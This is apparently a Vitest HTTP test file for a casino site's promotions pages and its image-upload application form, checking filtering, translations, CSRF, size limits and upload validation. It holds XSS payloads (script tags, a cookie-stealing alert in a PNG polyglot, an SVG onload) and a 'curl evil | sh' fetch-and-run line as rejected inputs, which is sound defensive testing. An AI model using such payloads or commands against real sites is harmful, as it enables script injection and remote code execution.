import fs from "node:fs";
import type http from "node:http";
import os from "node:os";
import path from "node:path";
import { and, eq } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { BrandRegistry } from "../../app/brand/registry.server";
import type { Database } from "../../app/db/client.server";
import { promotionApplicationImages, promotionApplications, promotions } from "../../app/db/schema";
import { createMember } from "../../app/domain/accounts/members.server";
import { createSession } from "../../app/domain/accounts/sessions.server";
import { runAdminCommand, type AdminRequest } from "../../app/domain/support/commands.server";
import { projectBrands } from "../setup/brands";
import { portOf, request } from "../setup/http";
import { Jar } from "../setup/jar";
import { postMultipart, type FilePart } from "../setup/multipart";
import { serveApp } from "../setup/test-server";
import { createTestDatabase, TEST_ENGINE } from "../setup/test-db";

/** The application form's pictures all go in its one file field, "images". */
const postApplication = (
  jar: Jar,
  p: string,
  fields: Record<string, string>,
  files: Omit<FilePart, "field">[],
  csrf?: string | false,
) =>
  postMultipart(
    jar,
    p,
    fields,
    files.map((f) => ({ field: "images", ...f })),
    csrf,
  );

/** Promotions and applying for one, over HTTP as a browser without JavaScript does it. */

let database: Database;
let registry: BrandRegistry;
let server: http.Server;
let port: number;
let dir: string;

const lucky = () => registry.byId.get("lucky-peso")!;
const run = <R extends AdminRequest>(req: R) => runAdminCommand(database.db, registry, req);
const who = { by: "tess", why: "promotions http test" };

const promo = (brand: string, key: string, title: string, over: Record<string, unknown> = {}) => ({
  kind: "promotion",
  brand,
  key,
  language: "en",
  title,
  html: "<p>Deposit and tell us<script>alert(1)</script></p>",
  start: "2026-01-01",
  categories: ["deposit_promo"],
  ...over,
});

let png: Buffer;
let jpeg: Buffer;

beforeAll(async () => {
  database = await createTestDatabase();
  registry = await projectBrands();
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "promotions-http-"));
  fs.copyFileSync(path.resolve("content/examples/fiesta-banner.png"), path.join(dir, "art.png"));
  fs.writeFileSync(
    path.join(dir, "promos.json"),
    JSON.stringify([
      promo("lucky-peso", "welcome", "Welcome reload", {
        noExpiry: true,
        categories: ["new_player", "deposit_promo"],
        images: [{ file: "art.png", sequence: 1 }],
      }),
      promo("lucky-peso", "welcome", "欢迎存款优惠", {
        language: "zh",
        noExpiry: true,
        categories: ["new_player", "deposit_promo"],
      }),
      promo("lucky-peso", "oneday", "Slots day", { start: "2030-01-01", end: "2030-01-01", categories: ["rng_promo"] }),
      promo("lucky-peso", "season", "Live season", { end: "2030-12-31", categories: ["live_promo"] }),
      promo("lucky-peso", "gone", "Retired offer", { noExpiry: true }),
      promo("perlas-play", "perlas", "Perlas only offer", { noExpiry: true }),
    ]),
  );
  const published = await run({ command: "content.publish", path: dir, ...who });
  if (!published.ok || !published.files.every((f) => f.ok)) throw new Error(JSON.stringify(published));
  await run({ command: "content.retire", brand: "lucky-peso", kind: "promotion", key: "gone", ...who });
  const opened = await run({ command: "promotions.intake", brand: "lucky-peso", key: "welcome", open: true, ...who });
  if (!opened.ok) throw new Error(opened.error);
  png = await sharp({ create: { width: 12, height: 9, channels: 3, background: "#c33" } })
    .png()
    .toBuffer();
  jpeg = await sharp({ create: { width: 10, height: 10, channels: 3, background: "#39c" } })
    .jpeg()
    .toBuffer();
  server = await serveApp({ database, registry });
  port = portOf(server);
});
afterAll(async () => {
  if (server) await new Promise((r) => server.close(r));
  await database?.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

async function idOf(key: string, brand = lucky(), language = "en") {
  const [row] = await database.db
    .select({ id: promotions.id })
    .from(promotions)
    .where(and(eq(promotions.merchantCode, brand.merchantCode), eq(promotions.key, key), eq(promotions.language, language)));
  return row!.id;
}

let seq = 0;
async function signedIn(type = 0) {
  const member = await createMember(database.db, lucky(), { username: `apply${type}x${++seq}`, password: "goodpass12", type });
  const jar = new Jar(port, "luckypeso.localhost");
  jar.cookies.set("__Host-sid", await createSession(database.db, lucky(), member.id));
  await jar.get("/m/activity"); // the page hands out the CSRF cookie
  return { jar, member };
}

/** The category chip marked as the selected one. */
const selectedChip = (key: string) => new RegExp(`<a (?=[^>]*aria-current="page")(?=[^>]*data-category="${key}")[^>]*>`);

const applicationsOf = (memberId: number) =>
  database.db.select().from(promotionApplications).where(eq(promotionApplications.memberId, memberId));
const imagesOf = (applicationId: number) =>
  database.db.select().from(promotionApplicationImages).where(eq(promotionApplicationImages.applicationId, applicationId));

describe(`promotions over HTTP on ${TEST_ENGINE}`, () => {
  it("lists the brand's promotions with the category menu, first selected, never another brand's or a retired one", async () => {
    const page = await request(port, "/m/activity", { host: "luckypeso.localhost" });
    expect(page.status).toBe(200);
    for (const title of ["Welcome reload", "Slots day", "Live season"]) expect(page.body).toContain(title);
    expect(page.body).not.toContain("Perlas only offer");
    expect(page.body).not.toContain("Retired offer");
    expect(page.body).toMatch(selectedChip("all"));
    for (const c of ["new_player", "deposit_promo", "rng_promo", "live_promo"])
      expect(page.body).toContain(`/m/activity?category=${c}`);
    expect(page.body).not.toContain("category=fish_promo");
    // The card's picture is the first image, served from the content images.
    expect(page.body).toMatch(/<img src="\/content-images\/[0-9a-f]{64}\.png"/);
    // The first card's picture is the first screen's largest: asked for at once and first; the rest wait.
    const pictures = page.body.match(/<img src="\/content-images\/[^>]*>/g) ?? [];
    expect(pictures.length).toBeGreaterThan(0);
    expect(pictures[0]).toContain('loading="eager"');
    expect(pictures[0]).toContain('fetchpriority="high"');
    for (const img of pictures.slice(1)) {
      expect(img).toContain('loading="lazy"');
      expect(img).toContain('fetchpriority="low"');
    }
    expect(page.body).toContain(`/m/activityDetail?id=${await idOf("welcome")}`);
    const other = await request(port, "/m/activity", { host: "perlas.localhost" });
    expect(other.body).toContain("Perlas only offer");
    expect(other.body).not.toContain("Welcome reload");
  });

  it("filters by category with plain links, and answers an empty or unknown category with the first", async () => {
    const slots = await request(port, "/m/activity?category=rng_promo", { host: "luckypeso.localhost" });
    expect(slots.body).toContain("Slots day");
    expect(slots.body).not.toContain("Welcome reload");
    expect(slots.body).toMatch(selectedChip("rng_promo"));
    expect(slots.body).not.toMatch(selectedChip("all"));
    const unknown = await request(port, "/m/activity?category=%3Cscript%3E", { host: "luckypeso.localhost" });
    expect(unknown.status).toBe(200);
    expect(unknown.body).toContain("Welcome reload");
    expect(unknown.body).toContain("Slots day");
  });

  it("follows the player's language, falling back to the brand's for items without a translation", async () => {
    const jar = new Jar(port, "luckypeso.localhost");
    jar.cookies.set("lng", encodeURIComponent(Buffer.from(JSON.stringify("zh")).toString("base64")));
    const page = await jar.get("/m/activity");
    expect(page.body).toContain("欢迎存款优惠");
    expect(page.body).not.toContain("Welcome reload");
    expect(page.body).toContain("Slots day");
    expect(page.body).toMatch(/data-category="all"[^>]*>全部</);
  });

  it("shows the detail with its date-range rule and the stored HTML, and 404 for another brand, retired or unknown", async () => {
    const welcome = await request(port, `/m/activityDetail?id=${await idOf("welcome")}`, { host: "luckypeso.localhost" });
    expect(welcome.status).toBe(200);
    expect(welcome.body).toContain("Welcome reload");
    expect(welcome.body).toContain("2026/01/01 – Long term");
    expect(welcome.body).toContain("Deposit and tell us");
    expect(welcome.body).not.toContain("alert(1)");
    const oneDay = await request(port, `/m/activityDetail?id=${await idOf("oneday")}`, { host: "luckypeso.localhost" });
    expect(oneDay.body).toContain("2030/01/01");
    expect(oneDay.body).not.toContain("2030/01/01 –");
    expect(oneDay.body).toContain("Coming soon");
    const season = await request(port, `/m/activityDetail?id=${await idOf("season")}`, { host: "luckypeso.localhost" });
    expect(season.body).toContain("2026/01/01 – 2030/12/31");
    expect(season.body).toContain("Closed");
    const perlasId = await idOf("perlas", registry.byId.get("perlas-play")!);
    for (const q of [`id=${perlasId}`, `id=${await idOf("gone")}`, "id=999999", "id=abc", "id=-1", ""]) {
      const r = await request(port, `/m/activityDetail?${q}`, { host: "luckypeso.localhost" });
      expect(r.status, q).toBe(404);
      expect(r.body).toContain("Promotion not found");
    }
  });

  it("offers the form to members only: visitors are sent to sign in, guests get free_reject", async () => {
    const id = await idOf("welcome");
    const visitor = await request(port, `/m/activityDetail?id=${id}`, { host: "luckypeso.localhost" });
    expect(visitor.body).toContain("Log in to apply for this promotion.");
    expect(visitor.body).not.toMatch(/enctype="multipart\/form-data"/i);
    const anon = new Jar(port, "luckypeso.localhost");
    await anon.get("/m/activity");
    const posted = await postApplication(anon, `/m/activityDetail?id=${id}`, { comment: "hi" }, []);
    expect(posted.status).toBe(302);
    expect(posted.headers.location).toContain("/m/login?redirectTo=");

    const { jar, member } = await signedIn(4);
    const page = await jar.get(`/m/activityDetail?id=${id}`);
    expect(page.body).toContain("Please login an actual account to use this function");
    const refused = await postApplication(jar, `/m/activityDetail?id=${id}`, { comment: "hi" }, [
      { filename: "a.png", type: "image/png", bytes: png },
    ]);
    expect(refused.status).toBe(403);
    expect(refused.body).toContain("Please login an actual account to use this function");
    expect(await applicationsOf(member.id)).toHaveLength(0);
  });

  it("takes an application as a plain multipart post, re-encoding its images, and shows it as applying", async () => {
    const id = await idOf("welcome");
    const { jar, member } = await signedIn();
    const page = await jar.get(`/m/activityDetail?id=${id}`);
    expect(page.body).toMatch(/enctype="multipart\/form-data"/i);
    const polyglot = Buffer.concat([png, Buffer.from("<html><script>alert(document.cookie)</script></html>")]);
    const r = await postApplication(jar, `/m/activityDetail?id=${id}`, { comment: "Deposited ₱500 on Monday" }, [
      { filename: "deposit.png", type: "image/png", bytes: polyglot },
      { filename: "receipt.jpg", type: "image/jpeg", bytes: jpeg },
      { filename: "", type: "application/octet-stream", bytes: Buffer.alloc(0) },
    ]);
    expect(r.status).toBe(302);
    expect(r.headers.location).toBe(`/m/activityDetail?id=${id}&applied=1`);
    const [app] = await applicationsOf(member.id);
    expect(app).toMatchObject({ status: "applying", comment: "Deposited ₱500 on Monday", promotionKey: "welcome" });
    const images = await imagesOf(app!.id);
    expect(images.map((i) => [i.sequence, i.contentType, i.width, i.height])).toEqual([
      [1, "image/png", 12, 9],
      [2, "image/jpeg", 10, 10],
    ]);
    expect(images[0]!.bytes.includes("<script>")).toBe(false);
    const after = await jar.get(r.headers.location!);
    expect(after.body).toContain("Application sent.");
    expect(after.body).toContain("My applications");
    expect(after.body).toContain("Applying");
    expect(after.body).not.toMatch(/enctype="multipart\/form-data"/i);
    // The images are private: nothing serves them.
    expect(after.body).not.toMatch(/promotion_application|application-\d/);

    const again = await postApplication(jar, `/m/activityDetail?id=${id}`, { comment: "again" }, []);
    expect(again.status).toBe(409);
    expect(again.body).toContain("You have already applied for this promotion.");
    expect(await applicationsOf(member.id)).toHaveLength(1);
  });

  it.each([
    [
      "a script renamed .png",
      { files: [{ filename: "evil.png", type: "image/png", bytes: Buffer.from("#!/bin/sh\ncurl evil | sh\n") }] },
      415,
      "Image 1 is not a PNG or JPG picture.",
    ],
    [
      "an SVG",
      {
        files: [
          {
            filename: "x.png",
            type: "image/png",
            bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
          },
        ],
      },
      415,
      "Image 1 is not a PNG or JPG picture.",
    ],
    [
      "an image over 5 MB",
      { files: [{ filename: "big.png", type: "image/png", bytes: Buffer.alloc(5 * 1024 * 1024 + 1, 1) }] },
      413,
      "Image 1 is larger than 5 MB.",
    ],
    [
      "four images",
      { files: [1, 2, 3, 4].map((n) => ({ filename: `${n}.png`, type: "image/png", bytes: Buffer.alloc(0) })) },
      400,
      "You chose 4 images; at most 3 are allowed.",
    ],
    ["a 141-character comment", { comment: "x".repeat(141) }, 400, "Your comment has 141 characters; at most 140 are allowed."],
  ] as const)("refuses %s with its message and stores nothing", async (_what, input, status, message) => {
    const id = await idOf("welcome");
    const { jar, member } = await signedIn();
    const files = "files" in input ? input.files.map((f) => ({ ...f, bytes: f.bytes.length === 0 ? png : f.bytes })) : [];
    const r = await postApplication(
      jar,
      `/m/activityDetail?id=${id}`,
      { comment: "comment" in input ? input.comment : "proof" },
      files,
    );
    expect(r.status).toBe(status);
    expect(r.body).toContain(message);
    expect(await applicationsOf(member.id)).toHaveLength(0);
  });

  it("accepts exactly 140 characters (emoji count as one) and refuses a post without the CSRF token", async () => {
    const id = await idOf("welcome");
    const { jar, member } = await signedIn();
    const forged = await postApplication(jar, `/m/activityDetail?id=${id}`, { comment: "hi" }, [], false);
    expect(forged.status).toBe(403);
    expect(await applicationsOf(member.id)).toHaveLength(0);
    const ok = await postApplication(jar, `/m/activityDetail?id=${id}`, { comment: "🎰".repeat(140) }, []);
    expect(ok.status).toBe(302);
    expect(await applicationsOf(member.id)).toHaveLength(1);
  });

  it("refuses applications to a promotion that takes none, and keeps one application under parallel posts", async () => {
    const { jar, member } = await signedIn();
    const closed = await postApplication(jar, `/m/activityDetail?id=${await idOf("season")}`, { comment: "hi" }, []);
    expect(closed.status).toBe(409);
    expect(closed.body).toContain("This promotion is not taking applications.");
    const id = await idOf("welcome");
    const replies = await Promise.all(
      Array.from({ length: 6 }, () =>
        postApplication(jar, `/m/activityDetail?id=${id}`, { comment: "double tap" }, [
          { filename: "a.png", type: "image/png", bytes: png },
        ]),
      ),
    );
    expect(replies.map((r) => r.status).sort()).toEqual([302, 409, 409, 409, 409, 409]);
    const apps = await applicationsOf(member.id);
    expect(apps).toHaveLength(1);
    expect(await imagesOf(apps[0]!.id)).toHaveLength(1);
  });
});
